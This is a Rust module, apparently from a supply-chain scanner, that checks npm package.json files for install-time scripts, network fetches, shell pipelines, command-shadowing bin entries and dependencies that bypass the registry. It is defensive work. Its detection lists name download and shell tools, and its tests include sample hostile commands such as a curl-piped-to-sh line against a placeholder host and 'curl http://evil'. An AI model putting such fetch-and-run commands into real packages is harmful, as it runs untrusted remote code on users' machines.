//! npm manifest checks (`package.json`): lifecycle scripts and what they invoke, `bin`
//! entries, `gypfile`, and dependencies that bypass the registry (URLs, git refs, local
//! paths). These say what will run at install time and where code comes from.

use serde_json::Value;

use crate::text::{clip, regexes};
use crate::{ids, Signal};

/// Scripts npm runs on `npm install` of the package (prepublish only on old npm).
pub const LIFECYCLE: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
];

/// Commands whose name a `bin` entry should not take over.
const SHADOWED: &[&str] = &[
    "node", "npm", "npx", "git", "sh", "bash", "ls", "cp", "sudo", "python", "python3", "pip",
    "yarn", "pnpm", "curl", "wget", "ssh",
];

/// 1-based line of the first `"key":` in `src`, if any.
pub(crate) fn key_line(src: &str, key: &str) -> Option<u32> {
    let needle = format!("\"{key}\"");
    let mut from = 0;
    while let Some(i) = src[from..].find(&needle) {
        let at = from + i;
        let rest = src[at + needle.len()..].trim_start();
        if rest.starts_with(':') {
            return Some(src[..at].matches('\n').count() as u32 + 1);
        }
        from = at + needle.len();
    }
    None
}

/// What a lifecycle script command line does, as (signal id, detail) pairs.
pub fn classify_script(cmd: &str) -> Vec<(&'static str, String)> {
    let lower = cmd.to_ascii_lowercase();
    let mut out = Vec::new();
    let words: Vec<&str> = cmd
        .split(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|')
        .filter(|w| !w.is_empty())
        .collect();
    if [
        "node-gyp",
        "prebuild-install",
        "node-pre-gyp",
        "cmake-js",
        "node-gyp-build",
        "prebuildify",
    ]
    .iter()
    .any(|t| words.contains(t))
    {
        out.push((
            ids::INSTALL_SCRIPT_NATIVE_BUILD,
            "builds or fetches a native addon".to_string(),
        ));
    }
    let downloads = [
        "curl",
        "wget",
        "invoke-webrequest",
        "iwr",
        "invoke-restmethod",
        "irm",
        "certutil",
        "bitsadmin",
        "ftp",
        "tftp",
        "nc",
        "ncat",
    ];
    if words
        .iter()
        .any(|w| downloads.contains(&w.to_ascii_lowercase().as_str()))
        || lower.contains("http://")
        || lower.contains("https://")
    {
        out.push((
            ids::INSTALL_SCRIPT_DOWNLOADS,
            "fetches from the network".to_string(),
        ));
    }
    let shells = [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "sh -c",
        "bash -c",
        "powershell",
        "pwsh",
        "cmd /c",
        "cmd.exe",
        "base64 -d",
        "base64 --decode",
        "eval ",
        "$(",
        "`",
    ];
    if shells.iter().any(|s| lower.contains(s)) {
        out.push((
            ids::INSTALL_SCRIPT_SHELL,
            "runs a shell pipeline or decoder".to_string(),
        ));
    }
    let inline = [
        "node -e",
        "node --eval",
        "node -p",
        "node --print",
        "python -c",
        "python3 -c",
        "perl -e",
        "ruby -e",
    ];
    if inline.iter().any(|s| lower.contains(s)) {
        out.push((
            ids::INSTALL_SCRIPT_INLINE_CODE,
            "runs inline code".to_string(),
        ));
    }
    let mut files: Vec<String> = Vec::new();
    for (i, w) in words.iter().enumerate() {
        let interp = matches!(
            *w,
            "node" | "python" | "python3" | "sh" | "bash" | "bun" | "deno" | "tsx" | "ts-node"
        );
        if !interp {
            continue;
        }
        // `node -e CODE`: the next word is code, not a file (files it requires are
        // picked up below).
        if words
            .get(i + 1)
            .is_some_and(|a| matches!(*a, "-e" | "--eval" | "-p" | "--print" | "-c"))
        {
            continue;
        }
        if let Some(file) = words[i + 1..].iter().find(|a| !a.starts_with('-')) {
            let looks_file = file.contains('.') || file.contains('/');
            if looks_file && !file.contains("://") {
                files.push(normalize_rel(file));
            }
        }
    }
    // Files inline code loads: `node -e "require('./postinstall')"`.
    if let Some(re) = &*RE_REQUIRE_REL {
        for c in re.captures_iter(cmd) {
            if let Some(m) = c.get(1) {
                files.push(normalize_rel(m.as_str()));
            }
        }
    }
    for f in files {
        // `node scripts/postinstall` runs `scripts/postinstall.js`.
        let last = f.rsplit('/').next().unwrap_or(&f);
        if !last.contains('.') {
            out.push((ids::INSTALL_SCRIPT_RUNS_FILE, format!("{f}.js")));
        }
        if !out
            .iter()
            .any(|(id, x)| *id == ids::INSTALL_SCRIPT_RUNS_FILE && *x == f)
        {
            out.push((ids::INSTALL_SCRIPT_RUNS_FILE, f));
        }
    }
    out
}

regexes! {
    RE_REQUIRE_REL = r#"(?:require|import)\(\s*\\?['"](\.{1,2}/[^'"\\]+)\\?['"]"#;
}

fn normalize_rel(p: &str) -> String {
    let p = p.trim_matches(['"', '\'']);
    p.strip_prefix("./").unwrap_or(p).to_string()
}

/// How a dependency spec escapes the registry, if it does.
pub fn classify_dep_spec(spec: &str) -> Option<(&'static str, &'static str)> {
    let s = spec.trim();
    let lower = s.to_ascii_lowercase();
    if lower.starts_with("npm:") {
        return None;
    }
    if lower.starts_with("git+")
        || lower.starts_with("git://")
        || lower.starts_with("github:")
        || lower.starts_with("gitlab:")
        || lower.starts_with("bitbucket:")
        || lower.starts_with("gist:")
        || (lower.starts_with("http")
            && lower
                .split(['#', '?'])
                .next()
                .is_some_and(|u| u.ends_with(".git")))
    {
        return Some((ids::DEPENDENCY_GIT, "git"));
    }
    if lower.starts_with("http://") {
        return Some((ids::DEPENDENCY_URL, "insecure http URL"));
    }
    if lower.starts_with("https://") {
        return Some((ids::DEPENDENCY_URL, "URL"));
    }
    if lower.starts_with("file:")
        || lower.starts_with("link:")
        || s.starts_with("./")
        || s.starts_with("../")
        || s.starts_with('/')
        || s.starts_with("~/")
    {
        return Some((ids::DEPENDENCY_LOCAL, "local path"));
    }
    // GitHub shorthand `user/repo` or `user/repo#ref`.
    let base = s.split('#').next().unwrap_or(s);
    let mut parts = base.split('/');
    if let (Some(a), Some(b), None) = (parts.next(), parts.next(), parts.next()) {
        let ok = |x: &str| {
            !x.is_empty()
                && x.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
        };
        if !a.starts_with('@') && ok(a) && ok(b) {
            return Some((ids::DEPENDENCY_GIT, "GitHub shorthand"));
        }
    }
    None
}

/// Checks one `package.json`.
pub fn package_json(rel: &str, src: &str, out: &mut Vec<Signal>) {
    let Ok(v) = serde_json::from_str::<Value>(src) else {
        out.push(Signal::new(
            ids::PARSE_FALLBACK,
            rel,
            None,
            "package.json is not valid JSON",
        ));
        return;
    };
    if let Some(scripts) = v.get("scripts").and_then(Value::as_object) {
        for hook in LIFECYCLE {
            let Some(cmd) = scripts.get(*hook).and_then(Value::as_str) else {
                continue;
            };
            let line = key_line(src, hook);
            out.push(Signal::new(
                ids::INSTALL_SCRIPT,
                rel,
                line,
                format!("{hook}: {}", clip(cmd, 300)),
            ));
            for (id, what) in classify_script(cmd) {
                out.push(Signal::new(
                    id,
                    rel,
                    line,
                    format!("{hook}: {what}: {}", clip(cmd, 200)),
                ));
            }
        }
    }
    match v.get("bin") {
        Some(Value::String(path)) => {
            let name = v.get("name").and_then(Value::as_str).unwrap_or("");
            out.push(bin_signal(rel, src, name, path));
        }
        Some(Value::Object(map)) => {
            for (name, path) in map {
                if let Some(path) = path.as_str() {
                    out.push(bin_signal(rel, src, name, path));
                }
            }
        }
        _ => {}
    }
    if v.get("gypfile").and_then(Value::as_bool) == Some(true) {
        out.push(Signal::new(
            ids::GYPFILE,
            rel,
            key_line(src, "gypfile"),
            "gypfile: true (node-gyp builds native code at install)",
        ));
    }
    for section in ["dependencies", "optionalDependencies", "peerDependencies"] {
        let Some(deps) = v.get(section).and_then(Value::as_object) else {
            continue;
        };
        for (name, spec) in deps {
            let Some(spec) = spec.as_str() else { continue };
            if let Some((id, what)) = classify_dep_spec(spec) {
                let optional = section == "optionalDependencies";
                out.push(
                    Signal::new(
                        id,
                        rel,
                        key_line(src, name),
                        format!("{section} {name}: {what}: {}", clip(spec, 200)),
                    )
                    .with_value(if optional { 1.0 } else { 0.0 }),
                );
            }
        }
    }
}

fn bin_signal(rel: &str, src: &str, name: &str, path: &str) -> Signal {
    let short = name.rsplit('/').next().unwrap_or(name);
    let shadows = SHADOWED.contains(&short);
    Signal::new(
        ids::BIN_ENTRY,
        rel,
        key_line(src, "bin"),
        format!(
            "{short} -> {}{}",
            normalize_rel(path),
            if shadows {
                " (shadows a common command)"
            } else {
                ""
            }
        ),
    )
    .with_value(if shadows { 1.0 } else { 0.0 })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sigs(src: &str) -> Vec<Signal> {
        let mut out = Vec::new();
        package_json("package.json", src, &mut out);
        out
    }

    #[test]
    fn scripts_are_classified() {
        let c = classify_script("node-gyp rebuild");
        assert_eq!(
            c.iter().map(|x| x.0).collect::<Vec<_>>(),
            vec![ids::INSTALL_SCRIPT_NATIVE_BUILD]
        );
        let c = classify_script("curl -s https://x.example/p.sh | sh");
        let idv: Vec<_> = c.iter().map(|x| x.0).collect();
        assert!(
            idv.contains(&ids::INSTALL_SCRIPT_DOWNLOADS)
                && idv.contains(&ids::INSTALL_SCRIPT_SHELL),
            "{idv:?}"
        );
        let c = classify_script("node ./scripts/setup.js --quiet");
        assert_eq!(
            c,
            vec![(
                ids::INSTALL_SCRIPT_RUNS_FILE,
                "scripts/setup.js".to_string()
            )]
        );
        assert!(classify_script("node -e \"require('x')\"")
            .iter()
            .any(|x| x.0 == ids::INSTALL_SCRIPT_INLINE_CODE));
        assert!(classify_script("tsc -p .").is_empty());
    }

    #[test]
    fn dep_specs() {
        assert_eq!(classify_dep_spec("^1.2.3"), None);
        assert_eq!(classify_dep_spec("npm:other@1"), None);
        assert_eq!(
            classify_dep_spec("github:user/repo#abc123").map(|x| x.0),
            Some(ids::DEPENDENCY_GIT)
        );
        assert_eq!(
            classify_dep_spec("user/repo#v1").map(|x| x.0),
            Some(ids::DEPENDENCY_GIT)
        );
        assert_eq!(
            classify_dep_spec("git+ssh://git@host/x.git").map(|x| x.0),
            Some(ids::DEPENDENCY_GIT)
        );
        assert_eq!(
            classify_dep_spec("https://host/x.tgz").map(|x| x.0),
            Some(ids::DEPENDENCY_URL)
        );
        assert_eq!(
            classify_dep_spec("file:../x").map(|x| x.0),
            Some(ids::DEPENDENCY_LOCAL)
        );
        assert_eq!(
            classify_dep_spec("link:../x").map(|x| x.0),
            Some(ids::DEPENDENCY_LOCAL)
        );
        assert_eq!(classify_dep_spec("latest"), None);
        assert_eq!(classify_dep_spec(">=1.0.0 <2"), None);
    }

    #[test]
    fn manifest_signals_with_lines() {
        let src = r#"{
  "name": "x",
  "bin": { "node": "bin/x.js" },
  "scripts": {
    "test": "curl http://evil",
    "postinstall": "node install.js"
  },
  "optionalDependencies": { "helper": "github:a/b#deadbeef" },
  "dependencies": { "ok": "^1.0.0" }
}"#;
        let s = sigs(src);
        let pi = s
            .iter()
            .find(|s| s.signal == ids::INSTALL_SCRIPT)
            .expect("install-script");
        assert_eq!(pi.line, Some(6));
        assert!(pi.detail.starts_with("postinstall: node install.js"));
        assert!(
            !s.iter().any(|s| s.signal == ids::INSTALL_SCRIPT_DOWNLOADS),
            "test script must not count"
        );
        let runs = s
            .iter()
            .find(|s| s.signal == ids::INSTALL_SCRIPT_RUNS_FILE)
            .expect("runs file");
        assert!(runs.detail.contains("install.js"));
        let bin = s.iter().find(|s| s.signal == ids::BIN_ENTRY).expect("bin");
        assert_eq!(bin.value, Some(1.0));
        let git = s
            .iter()
            .find(|s| s.signal == ids::DEPENDENCY_GIT)
            .expect("git dep");
        assert_eq!((git.line, git.value), (Some(8), Some(1.0)));
        assert_eq!(
            s.iter()
                .filter(|s| s.signal.starts_with("dependency-"))
                .count(),
            1
        );
    }

    #[test]
    fn regexes_compile() {
        for (name, ok) in all_regexes() {
            assert!(ok, "{name} does not compile");
        }
    }

    #[test]
    fn files_run_by_inline_code_and_extensionless_paths() {
        let files = |cmd: &str| -> Vec<String> {
            classify_script(cmd)
                .into_iter()
                .filter(|(id, _)| *id == ids::INSTALL_SCRIPT_RUNS_FILE)
                .map(|(_, f)| f)
                .collect()
        };
        assert_eq!(
            files("node -e \"try{require('./postinstall')}catch(e){}\""),
            ["postinstall.js", "postinstall"]
        );
        assert_eq!(
            files("node -e \"import('./config/scripts/postinstall.js').catch(() => void 0)\""),
            ["config/scripts/postinstall.js"]
        );
        assert_eq!(
            files("node scripts/postinstall"),
            ["scripts/postinstall.js", "scripts/postinstall"]
        );
        assert_eq!(files("node install.js"), ["install.js"]);
        assert!(files("node -e \"console.log(1.5)\"").is_empty());
    }
}
